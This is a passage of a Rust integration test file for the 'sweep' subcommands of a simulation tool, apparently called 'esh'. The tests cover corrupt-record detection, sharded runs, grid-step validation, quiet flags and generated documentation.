    let mut bytes = text.as_bytes().to_vec();
    let at = start + 6 + bytes[start + 6..].iter().position(|b| b.is_ascii_digit()).unwrap();
    bytes[at] = if bytes[at] == b'9' { b'8' } else { b'9' };
    bytes
}

#[test]
fn a_corrupt_record_mid_file_is_reported_and_the_runs_after_it_are_kept() {
    let (d, good, shard, text) = complete_one_shard_sweep();
    // Flip a digit in the first run's rows (its record starts after the header line).
    let first = text.find('\n').unwrap() + 1;
    let run: u64 = text[first + 2..].split(',').next().unwrap().parse().unwrap();
    fs::write(&shard, flip_a_digit(&text, first)).unwrap();
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("done 17, failed 0, missing 1"), "{status}");
    assert!(status.contains(&format!("corrupt at byte {first} (run {run})")), "{status}");
    fails(
        d.path(),
        &["sweep", "merge", "sw"],
        1,
        &["missing: 1 run(s)", &format!("corrupt at byte {first} (run {run})")],
    );
    let out = esh().current_dir(d.path()).args(["sweep", "run", "sw"]).output().unwrap();
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains(&format!("corrupt at byte {first} (run {run})")), "{stderr}");
    assert!(stdout.contains("1 ran now") && stdout.contains("17 done before"), "{stdout}");
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    assert_eq!(good, read(d.path().join("sw/results.csv")));
    // Garbage after the last record is reported, not read as a complete shard.
    let mut f = fs::OpenOptions::new().append(true).open(&shard).unwrap();
    std::io::Write::write_all(&mut f, b"garbage\n").unwrap();
    drop(f);
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("8 bytes of trailing garbage"), "{status}");
    let out = esh().current_dir(d.path()).args(["sweep", "run", "sw"]).output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("cut 8 bytes of trailing garbage"));
}

#[test]
fn runs_done_in_another_shard_file_are_not_run_again() {
    let d = setup(SWEEP);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "whole"]);
    ok(d.path(), &["sweep", "run", "whole", "-q"]);
    let out = ok(d.path(), &["sweep", "run", "whole", "--shard", "1/4"]);
    assert!(out.contains("0 ran now") && out.contains("5 done before"), "{out}");
    assert!(out.contains("5 of the runs done before are recorded in other shard files"), "{out}");
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "four"]);
    for shard in ["0/4", "1/4", "2/4", "3/4"] {
        ok(d.path(), &["sweep", "run", "four", "--shard", shard, "-q"]);
    }
    let out = ok(d.path(), &["sweep", "run", "four"]);
    assert!(out.contains("0 ran now") && out.contains("18 done before"), "{out}");
    // Partly done under one layout: only the rest runs under another.
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "mixed"]);
    ok(d.path(), &["sweep", "run", "mixed", "--shard", "0/2", "-q"]);
    let out = ok(d.path(), &["sweep", "run", "mixed", "--shard", "1/3"]);
    assert!(out.contains("6 runs: 3 ran now"), "{out}");
    ok(d.path(), &["sweep", "run", "mixed", "-q"]);
    ok(d.path(), &["sweep", "merge", "mixed", "-q"]);
    ok(d.path(), &["sweep", "merge", "whole", "-q"]);
    assert_eq!(read(d.path().join("whole/results.csv")), read(d.path().join("mixed/results.csv")));
}

#[test]
fn integer_steps_that_would_repeat_a_value_are_refused() {
    let d = setup(SWEEP);
    for (axis, needles) in [
        (
            "{ from = 1, to = 2, steps = 5 }",
            &["steps = 5 over the integers 1..=2", "only 2 of them", "leave `steps` out"][..],
        ),
        ("{ from = 1, to = 100, steps = 50, scale = \"log\" }", &["round to 1 twice"][..]),
    ] {
        fs::write(d.path().join("bad.toml"), SWEEP.replace("[1, 3]", axis)).unwrap();
        let mut all = vec!["bad.toml:", "axes.\"zones.supervisors\""];
        all.extend(needles);
        fails(d.path(), &["sweep", "plan", "bad.toml", "--out", "bad"], 2, &all);
    }
    fs::write(d.path().join("ok.toml"), SWEEP.replace("[1, 3]", "{ from = 1, to = 3, steps = 3 }")).unwrap();
    let out = ok(d.path(), &["sweep", "plan", "ok.toml", "--out", "ok"]);
    assert!(out.contains("9 design points"), "{out}");
}

#[test]
fn an_axis_that_a_set_event_overwrites_is_warned_about() {
    let d = setup(SWEEP);
    let base =
        format!("{BASE}\n[[events]]\ntick = 6\naction = \"set\"\nparameter = \"centre.tolerance\"\nvalue = 0.5\n");
    fs::write(d.path().join("base.toml"), base).unwrap();
    let out = esh().current_dir(d.path()).args(["sweep", "plan", "sweep.toml", "--out", "sw"]).output().unwrap();
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("warning: the axis `centre.tolerance` is overwritten from tick 6"), "{stderr}");
    assert!(
        stderr.contains("`set` event of `centre.tolerance` at that tick") && stderr.contains("value 0.5"),
        "{stderr}"
    );
    // The event is named by what it sets and when, not by an index in tick order, which
    // would disagree with `esh check`'s `events[i]` (the file's order).
    assert!(!stderr.contains("events["), "{stderr}");
    assert!(!stderr.contains("zones.supervisors"), "{stderr}");
}

#[test]
fn replications_default_to_the_base_scenarios() {
    let d = setup(&SWEEP.replace("replications = 3\n", ""));
    fs::write(d.path().join("base.toml"), BASE.replace("ticks = 12", "ticks = 12\nreplications = 2")).unwrap();
    let out = ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    assert!(out.contains("planned 12 runs (6 design points x 2 replications)"), "{out}");
    assert!(read(d.path().join("sw/sweep.toml")).contains("replications = 2"));
}

#[test]
fn every_sweep_subcommand_takes_quiet_and_help_names_them() {
    let d = setup(SWEEP);
    let help = ok(d.path(), &["sweep", "--help"]);
    for sub in ["plan", "run", "status", "merge", "slurm"] {
        assert!(help.contains(&format!("  {sub} ")), "{help}");
    }
    assert!(!help.contains("check"), "{help}");
    assert_eq!(ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw", "-q"]), "");
    let out = esh().current_dir(d.path()).args(["sweep", "status", "sw", "--quiet"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "runs are missing");
    assert!(out.stdout.is_empty());
    assert_eq!(ok(d.path(), &["sweep", "run", "sw", "-q"]), "");
    assert_eq!(ok(d.path(), &["sweep", "status", "sw", "-q"]), "");
    assert_eq!(ok(d.path(), &["sweep", "merge", "sw", "-q"]), "");
    assert_eq!(ok(d.path(), &["sweep", "slurm", "sw", "--tasks", "2", "-q"]), "");
    assert!(d.path().join("sw/slurm/array.sbatch").exists());
}

#[test]
fn sweeps_md_is_generated_from_the_sweep_files_definitions() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/sweeps.md");
    let want = esh::sweep::file::reference();
    if std::env::var_os("ESH_UPDATE_DOCS").is_some() {
        fs::write(&path, &want).unwrap();
    }
    let have = fs::read_to_string(&path).unwrap_or_default();
    assert!(have == want, "docs/sweeps.md is out of date; run `ESH_UPDATE_DOCS=1 cargo test --test sweep sweeps_md`");
    // Every key the parser knows is in it.
    for k in esh::sweep::file::KEYS {
        assert!(have.contains(&format!("| `{}` |", k.key)), "{}", k.key);
    }
}

#[test]
fn the_example_in_sweeps_md_plans() {
    let doc = esh::sweep::file::reference();
    let start = doc.find("```toml\n").unwrap() + 8;
    let text = &doc[start..start + doc[start..].find("```").unwrap()];
    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs");
    let s = esh::sweep::SweepFile::parse(text, "docs/sweeps.md", &docs).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(s.points(), 5 * 3 * 3);
    let tolerance: Vec<String> = esh::sweep::design::grid_values(&s.axes[0]).iter().map(|v| v.to_string()).collect();
    assert_eq!(tolerance, ["0.0", "0.25", "0.5", "0.75", "1.0"], "steps = 5 is five values, ends included");
}

#[test]
fn a_corrupt_last_record_is_reported_as_corrupt_not_as_garbage() {
    let (d, good, shard, text) = complete_one_shard_sweep();
    // The last record: the rows after the second-to-last `done` line, then its own.
    let body = &text[..text.len() - 1];
    let last_done = body.rfind("\ndone,").unwrap();
    let start = body[..last_done].rfind("\ndone,").map(|i| i + 1 + body[i + 1..].find('\n').unwrap() + 1).unwrap();
    let run: u64 = text[start + 2..].split(',').next().unwrap().parse().unwrap();
    fs::write(&shard, flip_a_digit(&text, start)).unwrap();
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains(&format!("corrupt at byte {start} (run {run})")), "{status}");
    assert!(!status.contains("garbage") && !status.contains("unfinished"), "{status}");
    let out = esh().current_dir(d.path()).args(["sweep", "run", "sw"]).output().unwrap();
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("1 ran now") && stdout.contains("17 done before"), "{stdout}");
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    assert_eq!(good, read(d.path().join("sw/results.csv")));
}

#[test]
fn a_grid_range_of_one_step_is_refused() {
    let d = setup(SWEEP);
    fs::write(
        d.path().join("one.toml"),
        "[sweep]\nscenario = \"base.toml\"\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0, steps = 1 }\n",
    )
    .unwrap();
    fails(
        d.path(),
        &["sweep", "plan", "one.toml", "--out", "x"],
        2,
        &["one.toml:4:", "steps = 1 over [0, 1]", "both ends"],
    );
}

/// A plan that keeps a program's reporter columns cannot run from the command line, which
/// has no reporters: `sweep run` and `sweep slurm` refuse it with the reason, and write nothing.
#[test]
fn a_plan_with_reporter_columns_is_refused_by_the_command_line() {
    let d = TempDir::new().unwrap();
    let sweep = d.path().join("s.toml");
    fs::write(
        &sweep,
        "[sweep]\nreplications = 1\n[scenario.run]\nticks = 2\n[axes]\n\"centre.tolerance\" = [0.1, 0.5]\n\
         [keep]\nticks = \"final\"\nreporters = [\"x_share\"]\n",
    )
    .unwrap();
    let plan = d.path().join("plan");
    esh().args(["sweep", "plan"]).arg(&sweep).arg("--out").arg(&plan).assert().success();
    assert!(fs::read_to_string(plan.join("sweep.toml")).unwrap().contains("reporters = [\"x_share\"]"));
    for args in [vec!["sweep", "run"], vec!["sweep", "slurm", "--tasks", "2"]] {
        let out = esh().args(&args[..2]).arg(&plan).args(&args[2..]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("reporter columns x_share") && err.contains("help:"), "{err}");
    }
    let shards = fs::read_dir(plan.join("shards")).map(|d| d.count()).unwrap_or(0);
    assert!(shards == 0 && !plan.join("slurm").exists(), "nothing written");
}
